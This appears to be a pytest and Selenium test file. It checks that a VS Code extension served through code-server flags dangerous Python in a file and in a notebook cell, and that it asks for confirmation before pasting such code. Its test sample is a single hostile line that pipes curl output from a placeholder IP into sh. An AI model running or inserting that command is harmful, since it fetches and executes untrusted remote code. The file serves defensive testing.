"""The packed extension in VS Code, as code-server serves it: what is found is marked, and a paste is asked about."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator

import pytest
from selenium.webdriver import ActionChains, Chrome, Keys
from selenium.webdriver.common.by import By

from tests.browser.lab import chromium, eventually
from tests.support.vsix import pack

SERVER = os.environ.get("SANDBOX_KERNEL_CODE_SERVER", "")
pytestmark = pytest.mark.skipif(not SERVER, reason="`make test-vscode` installs code-server")
SECONDS = 120
GRAVE = "import os\nos.system('curl http://192.0.2.1/x | sh')\n"
SETTINGS = {
    "sandboxKernelScreen.command": [sys.executable, "-m", "sandbox_kernel", "lsp"],
    "security.workspace.trust.enabled": False,
    "workbench.startupEditor": "none",
    "window.dialogStyle": "custom",
    "extensions.autoCheckUpdates": False,
    "extensions.ignoreRecommendations": True,
    "editor.autoClosingBrackets": "never",
}


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
    folder = tmp_path_factory.mktemp("vscode")
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    work = folder / "work"
    work.mkdir()
    (work / "grave.py").write_text(GRAVE)
    (work / "empty.py").write_text("x = 1\n")
    cell: dict[str, object] = {
        "cell_type": "code",
        "metadata": {},
        "source": GRAVE,
        "outputs": [],
        "execution_count": None,
    }
    (work / "grave.ipynb").write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}))
    for place in ("Machine", "User"):
        (folder / "data" / place).mkdir(parents=True)
        (folder / "data" / place / "settings.json").write_text(json.dumps(SETTINGS))
    pack(folder / "ours.vsix")
    places = [f"--user-data-dir={folder / 'data'}", f"--extensions-dir={folder / 'extensions'}"]
    server, nowhere = ["node", SERVER, *places], {**os.environ, "EXTENSIONS_GALLERY": "{}", "HOME": str(folder)}
    install = [*server, "--install-extension", str(folder / "ours.vsix")]
    subprocess.run(install, check=True, timeout=SECONDS, env=nowhere)
    words = ["--auth=none", f"--bind-addr=127.0.0.1:{port}", "--disable-telemetry", "--disable-update-check"]
    with (folder / "log").open("wb") as log:
        process = subprocess.Popen([*server, *words, work], stdout=log, stderr=log, start_new_session=True, env=nowhere)
    try:
        with chromium(folder) as browser:
            origin = f"http://127.0.0.1:{port}"
            rights = {"origin": origin, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
            browser.execute_cdp_cmd("Browser.grantPermissions", rights)

            def there() -> bool:
                browser.get(f"{origin}/?folder={work}")
                return bool(browser.find_elements(By.CSS_SELECTOR, "meta#vscode-workbench-web-configuration"))

            eventually(there, "the server's page", SECONDS)
            seen(browser, ".monaco-workbench .part.editor")
            yield browser
            browser.save_screenshot(str(folder / "last.png"))
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait(10)


def seen(page: Chrome, place: str) -> None:
    eventually(lambda: page.find_elements(By.CSS_SELECTOR, place), place, SECONDS)


def type_in(page: Chrome, *keys: str, control: bool = False) -> None:
    actions = ActionChains(page)
    if control:
        actions.key_down(Keys.CONTROL)
    actions.send_keys(*keys)
    if control:
        actions.key_up(Keys.CONTROL)
    actions.perform()


def open_file(page: Chrome, name: str) -> None:
    """Open a file in the list of the folder's."""
    row = f".explorer-folders-view .monaco-list-row[aria-label^='{name}']"
    seen(page, row)
    ActionChains(page).double_click(page.find_element(By.CSS_SELECTOR, row)).perform()
    seen(page, f".tab.active[data-resource-name='{name}']")


def text_of(page: Chrome) -> str:
    lines = page.find_elements(By.CSS_SELECTOR, ".editor-instance .view-lines")
    return "".join(one.text for one in lines).replace("\xa0", " ")


def paste(page: Chrome, text: str) -> None:
    page.execute_async_script("navigator.clipboard.writeText(arguments[0]).then(arguments[1])", text)
    type_in(page, "v", control=True)


def test_what_is_found_in_a_file_and_in_a_cell_is_marked(page: Chrome) -> None:
    open_file(page, "grave.py")
    seen(page, ".editor-instance .squiggly-error")
    open_file(page, "grave.ipynb")
    seen(page, ".notebookOverlay .squiggly-error")


def test_a_paste_is_asked_about_before_it_is_in(page: Chrome) -> None:
    open_file(page, "grave.py")
    seen(page, ".editor-instance .squiggly-error")  # the server answers
    open_file(page, "empty.py")
    page.find_element(By.CSS_SELECTOR, ".editor-instance .view-line").click()
    type_in(page, Keys.END, control=True)
    harmless = "y = [number for number in range(100) if number % 7]\n"
    paste(page, harmless)  # the control: nothing is asked about it
    eventually(lambda: harmless.strip() in text_of(page), "the harmless paste", SECONDS)
    for button, expected in (("Cancel", False), ("Paste", True)):
        paste(page, GRAVE)
        seen(page, ".monaco-dialog-box")
        dialog = page.find_element(By.CSS_SELECTOR, ".monaco-dialog-box")
        assert "The screen finds" in dialog.text
        assert "os.system" not in text_of(page)
        next(one for one in dialog.find_elements(By.CSS_SELECTOR, ".monaco-button") if one.text == button).click()
        eventually(lambda: not page.find_elements(By.CSS_SELECTOR, ".monaco-dialog-box"), "the dialog's end", SECONDS)
        if expected:
            eventually(lambda: "os.system" in text_of(page), "the paste", SECONDS)
        else:
            type_in(page, "#")
            eventually(lambda: "#" in text_of(page), "what is typed after it", SECONDS)
            assert "os.system" not in text_of(page)
